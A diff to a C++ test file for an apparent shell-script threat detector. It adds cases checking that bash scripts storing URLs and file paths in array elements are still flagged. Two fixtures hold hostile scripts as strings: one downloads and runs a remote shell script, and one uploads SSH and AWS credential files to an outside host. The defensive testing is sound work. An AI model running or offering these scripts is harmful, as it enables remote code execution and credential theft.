@@ -160,5 +160,29 @@ TEST(ThirtySeventhRoundClasses, ASpoolOfKnownNamesReadBackByAGlob) {
   for (const auto& c : cases) check(c);
 }
 
+// A[k]=v sets one element of a bash array (a known limit until now): a
+// download's URL and file kept in an associative array are still followed.
+TEST(ThirtySeventhRoundClasses, BashArrayElementAssignments) {
+  const Case cases[] = {
+      {"a download and its run named by an associative array's elements", B,
+       "#!/bin/bash\ndeclare -A T\nT[url]=\"http://203.0.113.9/x.sh\"\nT[dst]=\"/tmp/x.sh\"\n"
+       "curl -s \"${T[url]}\" -o \"${T[dst]}\"\nbash \"${T[dst]}\"\n",
+       "REMOTE-CODE-EXECUTION", SH},
+      {"key files put into an indexed array by position, uploaded", B,
+       "#!/bin/bash\nfiles=()\nfiles[0]=\"$HOME/.ssh/id_rsa\"\nfiles[1]=\"$HOME/.aws/credentials\"\n"
+       "for f in \"${files[@]}\"; do curl -s -F \"f=@$f\" https://drop.example.net/u; done\n",
+       "EXFILTRATION", SH},
+      {"a build's files put into an indexed array by position, uploaded", L,
+       "#!/bin/bash\nfiles=()\nfiles[0]=\"dist/app.tar.gz\"\nfiles[1]=\"dist/app.sha256\"\n"
+       "for f in \"${files[@]}\"; do curl -s -F \"f=@$f\" https://releases.example.net/u; done\n",
+       nullptr, SH},
+      {"a mirror's URL and file in an associative array, the file only listed", L,
+       "#!/bin/bash\ndeclare -A T\nT[url]=\"https://mirror.example.org/pkg.tar.gz\"\nT[dst]=\"pkg.tar.gz\"\n"
+       "curl -fsSL \"${T[url]}\" -o \"${T[dst]}\"\ntar -tzf \"${T[dst]}\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
